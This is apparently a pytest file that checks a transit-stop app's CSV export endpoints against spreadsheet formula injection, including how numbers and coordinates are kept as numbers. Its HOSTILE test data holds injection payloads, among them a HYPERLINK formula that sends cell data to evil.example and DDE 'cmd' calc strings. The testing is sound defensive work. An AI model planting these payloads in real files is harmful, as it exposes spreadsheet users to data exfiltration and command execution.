"""Every CSV the app serves is safe to open in a spreadsheet, whatever OSM mappers, the registry or
reviewers typed: hostile values in every text field, on every CSV endpoint."""

from __future__ import annotations

import csv
import io
import re

import pytest

from database import db
from tests import factories as f

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

# One payload per trigger character, plus the ones only a `;`-splitting spreadsheet would run.
HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "after_semicolon": 'Bern; =HYPERLINK("http://evil.example")',
    "after_comma": "Bern, @SUM(1+1)",
}


def _parts(cell: str) -> list[str]:
    """The cell as a spreadsheet splitting on `;` or `,` (quoting aside) would see its pieces."""
    return [cell, *re.split(r"[;,]", cell)[1:]]


def runnable_cells(body: str) -> list[str]:
    """Cells (or `;`/`,` parts of cells) a spreadsheet would run as a formula."""
    found = []
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            for part in _parts(cell):
                stripped = part.lstrip(" ")
                if stripped.startswith(FORMULA_START) and not NUMBER.fullmatch(stripped):
                    found.append(cell)
    return found


@pytest.fixture
def hostile_data(app):
    """A matched pair, a lonely stop and a decided problem, every free-text field hostile."""
    values = list(HOSTILE.values())
    stop, node, _ = f.matched_pair(
        name=HOSTILE["equals"],
        platform_code=HOSTILE["cr"],
        operator_code=HOSTILE["after_semicolon"],
    )
    node.name = HOSTILE["plus"]
    node.operator = HOSTILE["minus"]
    node.local_ref = HOSTILE["tab"]
    db.session.commit()
    # A stop west of Greenwich: its negative longitude must stay a number.
    f.osm_stop(name=HOSTILE["at"], operator=HOSTILE["after_comma"], lon=-0.1278, lat=51.5074)
    problem = f.problem(
        "distance",
        stop_id=stop.stop_id,
        osm_key=node.osm_key,
        operator_code=HOSTILE["at"],
        message=HOSTILE["after_comma"],
        distance_m=30.0,
        lon=-0.1278,
        lat=51.5074,
    )
    # "atlas_wrong" puts the problem in the registry-errors report too.
    f.decision(problem.identity, "atlas_wrong", note=" ; ".join(values))
    return stop, node, problem


CSV_ENDPOINTS = [
    "/api/v1/exports/stops.csv",
    "/api/v1/exports/matches.csv",
    "/api/v1/exports/problems.csv",
    "/api/v1/reports/registry-errors.csv",
]


@pytest.mark.parametrize("url", CSV_ENDPOINTS)
def test_no_csv_cell_or_semicolon_part_runs_as_a_formula(hostile_data, client, url):
    response = client.get(url)
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert len(list(csv.reader(io.StringIO(body)))) > 1, "the hostile rows must be in the file"
    assert runnable_cells(body) == []


@pytest.mark.parametrize("url", CSV_ENDPOINTS)
def test_hostile_text_is_kept_behind_a_quote_not_dropped(hostile_data, client, url):
    body = client.get(url).get_data(as_text=True)
    assert "'=HYPERLINK" in body or "'@SUM" in body


def test_registry_report_guards_its_decision_note_and_registry_fields(hostile_data, client):
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/api/v1/reports/registry-errors.csv").get_data().decode("utf-8-sig"))
        )
    )
    (row,) = rows
    assert row["name"] == "'" + HOSTILE["equals"]
    assert row["platform_code"] == "'" + HOSTILE["cr"]
    assert row["operator_code"] == "'" + HOSTILE["at"]
    assert row["decision_note"].startswith("'=HYPERLINK")
    # The quote goes right after the separator: the part a `;`-splitting spreadsheet sees is text.
    assert ";' \t=1+1" in row["decision_note"]
    assert ";' @SUM" in row["decision_note"]


def test_numbers_and_coordinates_stay_numbers(hostile_data, client):
    stops = list(csv.DictReader(io.StringIO(client.get("/api/v1/exports/stops.csv").get_data(as_text=True))))
    assert "-0.1278" in {row["lon"] for row in stops}
    problems = list(
        csv.DictReader(io.StringIO(client.get("/api/v1/exports/problems.csv").get_data(as_text=True)))
    )
    assert [float(row["lon"]) for row in problems] == [-0.1278]
